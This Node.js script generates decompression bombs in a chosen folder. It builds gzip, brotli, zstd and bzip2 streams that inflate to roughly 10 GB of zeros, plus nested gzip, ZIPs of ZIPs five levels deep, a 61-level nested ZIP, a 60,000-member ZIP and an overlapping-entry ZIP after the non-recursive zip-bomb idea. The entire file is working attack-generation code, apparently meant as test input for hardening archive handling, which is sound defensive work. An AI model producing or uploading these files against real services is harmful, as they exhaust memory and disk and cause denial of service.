// SPDX-License-Identifier: BSD-2-Clause
// Decompression bombs, written into a folder in a second: 10 GB of zeros in gzip, br and zstd, and ZIPs of ZIPs.
// Each stream is made of one piece that is repeated: node bombs.mjs FOLDER
import child from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import zlib from 'node:zlib';

const folder = process.argv[2];
const GB = 1 << 30;

// What a compressor writes for one more piece of zeros, on a byte boundary, in the middle of a stream.
async function pieces(stream, piece, flush) {
	const all = [];
	stream.on('data', (d) => all.push(d));
	const cut = () => new Promise((done) => stream.flush(flush, () => done(Buffer.concat(all.splice(0)))));
	stream.write(piece);
	const first = await cut();
	stream.write(piece);
	const again = await cut();
	stream.end();
	await new Promise((done) => stream.on('end', done));
	return [first, again, Buffer.concat(all)];
}

async function repeat(stream, size, flush, of) {
	const [first, again, end] = await pieces(stream, Buffer.alloc(size), flush);
	return Buffer.concat([first, ...Array(Math.ceil(of / size) - 1).fill(again), end]);
}

// RFC 8878: a frame with a window of 8 MB, blocks of one byte repeated 128 KB times.
function zstd(of) {
	const head = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x68]), size = 128 << 10;
	const block = (last) => {
		const b = Buffer.alloc(4);
		b.writeUIntLE((size << 3) | (1 << 1) | last, 0, 3);
		return b;
	};
	return Buffer.concat([head, ...Array(Math.ceil(of / size) - 1).fill(block(0)), block(1)]);
}

// One member each, named apart; packed holds deflated bytes that unpack to n.
function zip(members) {
	const parts = [], directory = [];
	let at = 0;
	members.forEach(({ packed, n, crc }, i) => {
		const name = Buffer.from(`${i}.zip`), fields = Buffer.alloc(26);
		fields.writeUInt16LE(20, 0);
		fields.writeUInt16LE(8, 4);
		fields.writeUInt32LE(crc, 10);
		fields.writeUInt32LE(packed.length, 14);
		fields.writeUInt32LE(n, 18);
		fields.writeUInt16LE(name.length, 22);
		parts.push(Buffer.from('PK\x03\x04'), fields, name, packed);
		const more = Buffer.alloc(14);
		more.writeUInt32LE(at, 10);
		directory.push(Buffer.from('PK\x01\x02\x14\x00'), fields, more, name);
		at += 30 + name.length + packed.length;
	});
	const list = Buffer.concat(directory), end = Buffer.alloc(22);
	end.write('PK\x05\x06', 0, 'latin1');
	end.writeUInt16LE(members.length, 8);
	end.writeUInt16LE(members.length, 10);
	end.writeUInt32LE(list.length, 12);
	end.writeUInt32LE(at, 16);
	return Buffer.concat([...parts, list, end]);
}

const member = (bytes) => ({ packed: zlib.deflateRawSync(bytes, { level: 9 }), n: bytes.length, crc: zlib.crc32 ? zlib.crc32(bytes) : 0 });
const save = (name, bytes) => fs.writeFileSync(`${folder}/${name}`, bytes);

const gzip = await repeat(zlib.createGzip({ level: 9 }), 16 << 20, zlib.constants.Z_FULL_FLUSH, 10 * GB);
save('zeros.gz', gzip);
save('zeros.gz.gz', zlib.gzipSync(gzip));
save('zeros.br', await repeat(zlib.createBrotliCompress({ params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 5 } }), 16 << 20,
	zlib.constants.BROTLI_OPERATION_FLUSH, 10 * GB));
save('zeros.zst', zstd(10 * GB));
{
	let six = gzip;
	for (let i = 0; i < 5; i++)
		six = zlib.gzipSync(six);
	save('six.gz', six);
}
// Noise in front: dense only later.
save('late.gz', Buffer.concat([zlib.gzipSync(crypto.randomBytes(4 << 20)), gzip]));
// Streams one after the other, as bzip2 itself reads them; `bzip2` of 45 MB of zeros has 48 bytes.
save('zeros.bz2', Buffer.concat(Array(228).fill(child.execFileSync('bzip2', { input: Buffer.alloc(45 << 20) }))));
save('members.gz', Buffer.concat(Array(160).fill(zlib.gzipSync(Buffer.alloc(64 << 20), { level: 9 }))));

// 16 ZIPs of 16 ZIPs of ... of 4 GB of zeros, five levels: a hundred thousand times that.
const raw = await repeat(zlib.createDeflateRaw({ level: 9 }), 16 << 20, zlib.constants.Z_FULL_FLUSH, 4 * GB - (16 << 20));
let nested = zip([{ packed: raw, n: 4 * GB - (16 << 20), crc: 0 }]);
for (let i = 0; i < 5; i++) {
	const one = member(nested);
	nested = zip(Array(16).fill(one));
}
save('nested.zip', nested);
// A ZIP in a ZIP in a ZIP, deeper than anybody looks.
let deep = zip([member(Buffer.from('the bottom of it, which nobody sees\n'.repeat(10)))]);
for (let i = 0; i < 60; i++)
	deep = zip([member(deep)]);
save('deep.zip', deep);
// Very many members, small ones.
save('many.zip', zip(Array(60000).fill(member(Buffer.from('x'.repeat(200))))));
// All of them in one place: members that overlap, after the idea of the non-recursive bomb: 10,000 entries, one body.
{
	const m = { packed: raw.subarray(0, raw.length), n: 4 * GB - (16 << 20), crc: 0 };
	const z = zip([m]), entry = z.subarray(z.length - 22 - 46 - 5, z.length - 22), end = Buffer.from(z.subarray(z.length - 22));
	end.writeUInt16LE(10000, 8);
	end.writeUInt16LE(10000, 10);
	end.writeUInt32LE(entry.length * 10000, 12);
	save('overlap.zip', Buffer.concat([z.subarray(0, z.length - 22 - entry.length), ...Array(10000).fill(entry), end]));
}
